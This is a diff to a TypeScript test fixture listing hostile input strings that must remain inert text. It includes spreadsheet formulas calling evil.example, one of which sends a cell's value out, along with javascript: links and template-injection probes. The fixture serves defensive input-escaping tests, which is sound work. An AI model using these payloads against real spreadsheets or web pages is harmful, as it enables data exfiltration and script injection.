@@ -1,5 +1,8 @@
 /** Texts that try to become a formula, a page element, a script, a command or a header: none may ever be more than text. */
 
+/** Begins a placeholder in a template. */
+const PLACEHOLDER = '$';
+
 export const HOSTILE_TEXTS: readonly string[] = [
   '=HYPERLINK("http://evil.example","click")',
   '=IMPORTXML("http://evil.example?x="&A1,"//a")',
@@ -39,8 +42,8 @@ export const HOSTILE_TEXTS: readonly string[] = [
   '<a href="javascript:alert(1)">link</a>',
   'javascript:alert(1)',
   'data:text/html,<b>x</b>',
-  '`${alert(1)}`',
-  '${7*7}',
+  `\`${PLACEHOLDER}{alert(1)}\``,
+  `${PLACEHOLDER}{7*7}`,
   '{{7*7}}',
   '<%= 7*7 %>',
   '$& $1 $$',
